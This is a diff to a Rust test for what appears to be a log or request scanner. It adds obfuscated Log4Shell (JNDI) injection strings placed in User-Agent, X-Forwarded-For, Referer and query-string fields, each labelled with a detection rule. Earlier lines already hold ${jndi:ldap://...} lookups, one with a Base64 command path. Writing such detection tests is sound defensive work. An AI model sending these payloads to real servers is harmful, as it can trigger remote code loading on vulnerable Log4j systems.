@@ -48,6 +48,11 @@ fn jndi_family() {
             ("${jnd${upper:ı}:ldap://x/a}", "log4j.jndi-lookup"),
             ("X-Api-Version: ${${lower:j}${upper:n}${lower:d}i:${lower:l}dap://x:1389/Basic/Command/Base64/aWQ=}", "log4j.jndi-lookup"),
             ("WARN Error looking up JNDI resource [ldap://192.0.2.1:1389/a]", "log4j.jndi-lookup-error"),
+            // Split payloads: lookups spelling `jndi:` with no outer `${` and nothing after.
+            ("User-Agent: j${::-nD}i${::-:}", "log4j.jndi-assembled"),
+            ("X-Forwarded-For: j${k8s:k5:-ND}i${sd:k5:-:}", "log4j.jndi-assembled"),
+            (r"Referer: j${main:\k5:-Nd}i${spring:k5:-:}", "log4j.jndi-assembled"),
+            ("GET /?a=jn${date:}di${date:':'} HTTP/1.1", "log4j.jndi-assembled"),
         ],
         &[
             "${user.home}/conf ${catalina.base}",
